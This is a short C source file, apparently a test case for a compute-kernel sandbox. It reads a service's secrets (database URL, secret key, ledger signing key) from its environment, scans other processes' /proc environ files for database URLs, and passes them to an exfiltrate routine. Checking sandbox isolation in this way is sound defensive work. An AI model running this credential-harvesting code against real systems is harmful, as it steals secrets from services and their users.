/* (a) The service's secrets from the environment: its own, and any other process's it can see. */
#include "common.h"
#include <dirent.h>
#include <stdlib.h>

static const char *NAMES[] = {"DATABASE_URL", "CELERY_BROKER_URL", "SECRET_KEY", "LEDGER_SIGNING_KEY", "FORGESTENCIL_VAR_DIR", NULL};

KERNEL {
    got_length = 0;
    for (int i = 0; NAMES[i]; i++) {
        const char *value = getenv(NAMES[i]);
        if (value) note(value, strlen(value));
    }
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && (entry = readdir(proc));) {
        char path[300], buffer[65536];
        snprintf(path, sizeof path, "/proc/%s/environ", entry->d_name);
        FILE *file = fopen(path, "r");
        if (!file) continue;
        size_t n = fread(buffer, 1, sizeof buffer, file);
        fclose(file);
        for (size_t k = 0; k + 13 < n; k++)
            if (!memcmp(buffer + k, "DATABASE_URL=", 13)) note(buffer + k, strnlen(buffer + k, n - k));
    }
    if (proc) closedir(proc);
    exfiltrate(y, nz, ny, nx);
}
